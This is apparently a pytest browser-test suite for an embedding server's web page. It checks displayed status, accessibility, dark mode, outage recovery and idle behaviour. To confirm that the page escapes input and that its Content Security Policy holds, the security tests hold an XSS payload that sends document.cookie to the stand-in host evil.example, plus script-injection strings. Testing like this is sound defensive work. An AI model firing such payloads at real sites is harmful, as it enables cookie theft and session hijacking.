"""The page of a real server in a real browser: what it shows, what it asks for, what it lets in."""

from __future__ import annotations

import io
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pytest
from PIL import Image

from tests.browser import BROWSER, Browser

HOSTILE = "<img src=x onerror=\"window.harmed = 1; fetch('https://evil.example/' + document.cookie)\">"
SCRIPT = "</script><script>window.harmed = 2</script>"


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[Browser]:
    if BROWSER is None:
        pytest.skip("NO BROWSER: the page was not opened in one; install chromium to run this test")
    browser = Browser(tmp_path / "profile")
    yield browser
    browser.close()


COLOURS = ("red", "blue", "green", "yellow", "white")
THINGS = ("dog", "cat", "boat", "bicycle", "umbrella", "house", "kite", "train")
PLACES = ("on a beach", "in the snow", "under a bridge", "beside a lake", "at night")
CAPTIONS = [f"a {colour} {thing} {place}" for colour in COLOURS for thing in THINGS for place in PLACES]


@pytest.fixture(scope="module")
def filled(server: Any) -> Any:
    """200 captions, a hostile one among them."""
    captions = [*CAPTIONS[:-1], f"a red dog {SCRIPT}"]
    for at in range(0, len(captions), 50):
        assert server.embed(captions[at : at + 50]).status_code == 200
    assert httpx.post(f"{server.url}/v1/snapshots", timeout=60).status_code == 200
    assert server.embed(["a fresh red dog"]).status_code == 200
    assert server.embed(["a red dog", ""]).status_code == 400
    return server


def ask(browser: Browser, caption: str) -> None:
    """As somebody who has no mouse."""
    browser.run("document.getElementById('caption').value = ''; document.getElementById('caption').focus()")
    browser.type(caption)
    browser.press("Enter")
    browser.wait("!document.getElementById('button').hasAttribute('aria-disabled')")


def test_it_shows_what_the_server_does_and_lets_nothing_in(filled: Any, browser: Browser) -> None:
    browser.open(filled.url)
    browser.wait("document.getElementById('rows').textContent === '201'")
    text = browser.text()
    for shown in ("minilm", "Ready.", "Embeds with vllm", "mean of the tokens", "float32, 384 dimensions"):
        assert shown in text
    browser.wait("document.body.innerText.includes('000001-')")  # the snapshot
    assert httpx.get(f"{filled.url}/v1/stats").json()["fingerprint"] in text
    assert "400 invalid_caption" in text and "input[1]: the caption is empty" in text

    ask(browser, HOSTILE)
    browser.wait("document.querySelectorAll('#answer tbody tr').length === 10")
    assert browser.run("document.querySelector('.asked').textContent") == HOSTILE
    assert "embedded now, and kept" in browser.text()
    ask(browser, "a red dog")
    browser.wait("document.querySelector('.asked').textContent === 'a red dog'")
    near = browser.run(
        "[...document.querySelectorAll('#answer tbody td:first-child')].map(e => e.textContent)"
    )
    assert "a fresh red dog" in near and all("red dog" in caption for caption in near[:3])
    ask(browser, f"a red dog {SCRIPT}")
    browser.wait("document.querySelector('.asked').textContent.includes('window.harmed')")
    assert "from the cache" in browser.text()
    assert browser.run("window.harmed === undefined && document.scripts.length === 1")
    assert not browser.run("document.querySelector('main img')")

    origin = f"{filled.url}/"
    assert browser.requests and not [
        url for url in browser.requests if not url.startswith((origin, "data:image/svg+xml,"))
    ]
    assert browser.complaints == []


def test_even_a_page_that_was_tampered_with_runs_no_other_script(filled: Any, browser: Browser) -> None:
    browser.open(filled.url)
    browser.run(
        """(() => {
            const script = document.createElement("script");
            try { script.textContent = "window.harmed = 3"; } catch { }
            document.body.append(script);
            try { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.harmed = 4'>"); } catch { }
        })()"""
    )
    blocked = browser.run("fetch('https://evil.example/').then(() => 'sent', (error) => error.name)")
    assert blocked == "TypeError" and browser.run("window.harmed === undefined")
    assert [complaint for complaint in browser.complaints if "Content Security Policy" in complaint]


@pytest.mark.parametrize("dark", [False, True])
def test_it_can_be_read_in_light_and_dark_and_on_a_phone(filled: Any, browser: Browser, dark: bool) -> None:
    browser.open(filled.url, dark=dark)
    browser.wait("document.getElementById('rows').textContent.startsWith('20')")
    ask(browser, "a red dog")
    browser.wait("document.querySelector('#grown svg') && document.querySelector('#answer tbody')")
    picture = np.asarray(Image.open(io.BytesIO(browser.picture())).convert("L"), float)
    assert picture.std() > 5
    assert np.median(picture) < 60 if dark else np.median(picture) > 200
    assert browser.low_contrast() == []
    browser.point("document.getElementById('grown')", across=0.9)
    read = browser.run("document.getElementById('grown-at').textContent")
    assert re.fullmatch(r"\d\d:\d\d:\d\d\s+\d+", read)  # when, and how many
    for width in (360, 768):
        browser.resize(width, 800)
        wide = "document.documentElement.scrollWidth <= document.documentElement.clientWidth"
        assert browser.run(wide), f"it can be scrolled sideways at {width} px"
    assert browser.complaints == []


def test_everything_has_a_name_and_the_keyboard_reaches_it(filled: Any, browser: Browser) -> None:
    browser.open(filled.url)
    browser.wait("document.getElementById('rows').textContent.startsWith('20')")
    reached = []
    for _ in range(7):
        browser.press("Tab")
        reached.append(browser.run("document.activeElement.id || document.activeElement.textContent"))
    assert reached[:4] == ["Skip to the caption box", "caption", "button", "center"]
    assert reached[4:] == ["API", "These figures as JSON", "Prometheus metrics"]
    tree = browser.call("Accessibility.getFullAXTree")["nodes"]
    named = {
        (node["role"]["value"], node.get("name", {}).get("value", "")) for node in tree if not node["ignored"]
    }
    assert {("textbox", "Caption"), ("button", "Find neighbours")} <= named
    assert not [
        role
        for role, name in named
        if role in ("textbox", "button", "checkbox", "link", "image") and not name
    ]
    assert any(role == "image" and name.startswith("Captions in the cache: ") for role, name in named)


def test_a_server_that_goes_away_is_noticed_and_one_that_comes_back_too(
    serve: Callable[..., Any], browser: Browser
) -> None:
    running = serve("--engine", "transformers").wait_ready()
    assert running.embed(["a red dog"]).status_code == 200
    browser.open(running.url)
    browser.wait("document.getElementById('state').textContent === 'Ready.'")
    running.stop()
    browser.wait("document.getElementById('state').textContent === 'No answer.'")
    assert "Trying again every 2 s" in browser.text() and browser.run("document.title.startsWith('●')")
    assert browser.run("document.getElementById('rows').textContent") == "1"
    ask(browser, "a red dog")
    assert "The caption is still in the box" in browser.text()
    again = serve("--engine", "vllm", port=int(running.url.rpartition(":")[2]))
    browser.wait("document.getElementById('state').textContent === 'Only cached captions for now.'")
    assert "the engine is starting" in browser.text()  # for some seconds
    again.wait_ready()
    browser.wait("document.getElementById('state').textContent === 'Ready.'")
    assert not browser.run("document.getElementById('gone').checkVisibility()")


def test_it_asks_for_nothing_while_it_is_hidden(filled: Any, browser: Browser) -> None:
    browser.open(filled.url)
    browser.wait("document.getElementById('rows').textContent.startsWith('20')")
    hide = """(hidden) => {
        Object.defineProperty(document, "hidden", {configurable: true, get: () => hidden});
        document.dispatchEvent(new Event("visibilitychange"));
    }"""
    browser.run(f"({hide})(true)")
    before = len(browser.requests)
    time.sleep(5)
    browser.run("1")  # what happened meanwhile is noted now
    assert len(browser.requests) == before
    browser.run(f"({hide})(false)")
    time.sleep(0.5)
    browser.run("1")
    assert len(browser.requests) == before + 1
